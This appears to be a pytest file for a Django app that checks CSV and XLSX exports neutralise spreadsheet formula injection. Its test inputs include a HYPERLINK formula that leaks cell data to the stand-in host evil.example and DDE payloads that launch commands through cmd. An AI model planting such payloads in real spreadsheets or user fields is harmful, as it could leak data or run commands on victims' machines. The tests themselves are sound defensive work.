"""CSV and XLSX exports neutralise spreadsheet formulas in user text (lib.spreadsheet)."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from smartby.lib.spreadsheet import safe_cell, safe_row

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Aarhus Kommune", "1+1", "a=b", "", None, -5, 3.5, Decimal("-1")]
)
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_openpyxl_stores_neutralised_text_as_text():
    wb = Workbook()
    wb.active.append(safe_row(["=1+1", -5]))
    out = io.BytesIO()
    wb.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value == "'=1+1"
    assert sheet["B1"].value == -5


def test_radar_csv_neutralises_technology_names_and_rationales(db):
    from smartby.radar.tests.helpers import make_edition
    from smartby.registry.models import Technology

    Technology.objects.create(name=FORMULAS[0][:100], slug="formel")
    edition = make_edition(2031, [(FORMULAS[0][:100], "data", "anvend")])
    edition.blips.update(rationale="@SUM(1+1)")
    response = Client().get(f"/teknologiradar/{edition.year}/teknologiradar.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULAS[0][:100]
    assert rows[1][-1] == "'@SUM(1+1)"


def test_cost_allocation_exports_neutralise_member_names():
    from smartby.costs import exports
    from smartby.costs.allocation import allocate

    result = allocate(1000, [], 50, [("=cmd|' /C calc'!A0", 100), ("Aarhus", 300)])
    rows = list(csv.reader(io.StringIO(exports.allocation_csv(result).decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:] if row]
    assert "'=cmd|' /C calc'!A0" in names
    assert "Aarhus" in names
    assert not any(name.startswith("=") for name in names)
    sheet = load_workbook(io.BytesIO(exports.allocation_xlsx(result, "Fordeling"))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert "'=cmd|' /C calc'!A0" in values
    assert all(not (isinstance(v, str) and v.startswith("=")) for v in values)
